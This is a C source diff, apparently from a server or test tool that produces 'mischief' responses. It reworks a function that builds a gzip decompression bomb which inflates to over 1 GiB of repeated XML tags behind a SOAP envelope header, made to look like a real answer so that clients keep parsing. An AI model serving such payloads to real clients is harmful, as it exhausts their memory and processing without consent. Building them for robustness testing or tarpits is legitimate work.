@@ -335,29 +335,39 @@ void rs_mischief_text(const struct rs_mischief *m, struct rs_buf *body)
     }
 }
 
+static void pack(z_stream *z, const char *data, size_t n, int flush, struct rs_buf *out)
+{
+    unsigned char packed[4096];
+
+    z->next_in = (unsigned char *)(uintptr_t)data;
+    z->avail_in = (unsigned)n;
+    do {
+        z->next_out = packed;
+        z->avail_out = sizeof(packed);
+        (void)deflate(z, flush);
+        rs_buf_put(out, packed, sizeof(packed) - z->avail_out);
+    } while (z->avail_out == 0);
+}
+
+/* It begins as an answer does, so that nobody stops reading for another reason. */
 void rs_gzip_bomb(struct rs_buf *out)
 {
-    static char blank[1 << 16];
-    unsigned char packed[4096];
+    static const char head[] = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<SOAP-ENV:Envelope "
+                               "xmlns:SOAP-ENV=\"http://schemas.xmlsoap.org/soap/envelope/\">";
+    static char filler[1 << 16];
     z_stream z;
 
     memset(&z, 0, sizeof(z));
-    memset(blank, ' ', sizeof(blank));
-    if (deflateInit2(&z, 1, Z_DEFLATED, 15 + 16, 8, Z_DEFAULT_STRATEGY) != Z_OK) {
+    for (size_t i = 0; i < sizeof(filler); i += 4) {
+        memcpy(filler + i, "<a/>", 4);
+    }
+    if (deflateInit2(&z, 6, Z_DEFLATED, 15 + 16, 8, Z_DEFAULT_STRATEGY) != Z_OK) {
         return;
     }
+    pack(&z, head, sizeof(head) - 1, Z_NO_FLUSH, out);
     /* 17,000 x 64 KiB is a little above 1 GiB. */
     for (int i = 0; i < 17000; i++) {
-        int flush = i == 16999 ? Z_FINISH : Z_NO_FLUSH;
-
-        z.next_in = (unsigned char *)blank;
-        z.avail_in = sizeof(blank);
-        do {
-            z.next_out = packed;
-            z.avail_out = sizeof(packed);
-            (void)deflate(&z, flush);
-            rs_buf_put(out, packed, sizeof(packed) - z.avail_out);
-        } while (z.avail_out == 0);
+        pack(&z, filler, sizeof(filler), i == 16999 ? Z_FINISH : Z_NO_FLUSH, out);
     }
     (void)deflateEnd(&z);
 }
